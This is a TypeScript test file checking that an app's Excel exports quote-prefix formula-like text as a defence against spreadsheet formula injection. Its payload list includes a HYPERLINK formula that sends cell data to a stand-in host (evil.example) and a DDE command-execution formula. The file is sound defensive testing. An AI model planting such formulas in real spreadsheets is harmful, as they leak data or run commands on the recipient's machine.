import { PassThrough } from 'node:stream';
import { isFormulaLike } from '@srm/contracts/spreadsheet-safety';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { type Column, readWorkbook, streamWorkbook, writeWorkbook } from '../src/platform/excel.ts';

/**
 * Spreadsheet formula injection (issue #32 "Exports", OWASP "CSV injection"): text typed by one company
 * that starts like a formula is written with Excel's quote-prefix style by the one Excel engine, shows
 * exactly as typed, and an import reads it back unchanged. Checked on the written styles.xml itself.
 */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1)',
  '+1+1',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
];
const SAFE = ['螺栓 M8', 'normal text', '-500.00', '+12', 'a=b', ' =1'];
const columns: Column[] = [
  { key: 'name', zh_cn: '名称', en: 'Name' },
  { key: 'amount', zh_cn: '金额', en: 'Amount', kind: 'decimal' },
];

/** For each data row's first cell (column A): its text and whether its style has quotePrefix="1". */
async function cellsOf(bytes: Buffer): Promise<{ text: string; quoted: boolean }[]> {
  const zip = await JSZip.loadAsync(bytes);
  const styles = (await zip.file('xl/styles.xml')?.async('string')) ?? '';
  const xfs = (styles.split('<cellXfs')[1] ?? '').split('</cellXfs>')[0]?.match(/<xf [^>]*>/g) ?? [];
  const sheet = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? '';
  const styleOfRow = new Map(
    [...sheet.matchAll(/<c r="A(\d+)"([^>]*)>/g)].map((m) => [
      Number(m[1]),
      Number(/ s="(\d+)"/.exec(m[2] ?? '')?.[1] ?? '0'),
    ]),
  );
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: { text: string; quoted: boolean }[] = [];
  workbook.worksheets[0]?.eachRow((row, n) => {
    if (n === 1) return;
    cells.push({
      text: String(row.getCell(1).value),
      quoted: /quotePrefix="1"/.test(xfs[styleOfRow.get(n) ?? 0] ?? ''),
    });
  });
  return cells;
}

async function streamed(rows: Record<string, string>[]): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  async function* source() {
    yield* rows;
  }
  await streamWorkbook('Sheet', columns, source(), 'en', out);
  return Buffer.concat(chunks);
}

describe('formula-like text in exports', () => {
  it('tells formula-like text from plain text and signed numbers', () => {
    for (const p of PAYLOADS) expect(isFormulaLike(p), p).toBe(true);
    for (const s of SAFE) expect(isFormulaLike(s), s).toBe(false);
  });

  for (const [name, write] of [
    ['writeWorkbook', (rows: Record<string, string>[]) => writeWorkbook('Sheet', columns, rows, 'en')],
    ['streamWorkbook', streamed],
  ] as const) {
    it(`${name} quote-prefixes every formula-like cell, leaves the others alone, and reads back unchanged`, async () => {
      const values = [...PAYLOADS, ...SAFE];
      const bytes = await write(values.map((name) => ({ name, amount: '-500.00' })));
      const cells = await cellsOf(bytes);
      // XML keeps no bare carriage return in text: exceljs reads a written CR back as a line feed, as before.
      expect(cells.map((c) => c.text)).toEqual(values.map((v) => v.replace(/\r/g, '\n')));
      expect(cells.map((c) => c.quoted)).toEqual(values.map((v) => PAYLOADS.includes(v)));
      const back = await readWorkbook(bytes, columns);
      // The import trims surrounding white space of every cell (as before): compare with that rule.
      expect(back.map((r) => r.values.name)).toEqual(values.map((v) => v.trim()));
      expect(back.every((r) => r.values.amount === '-500.00')).toBe(true);
    });
  }
});
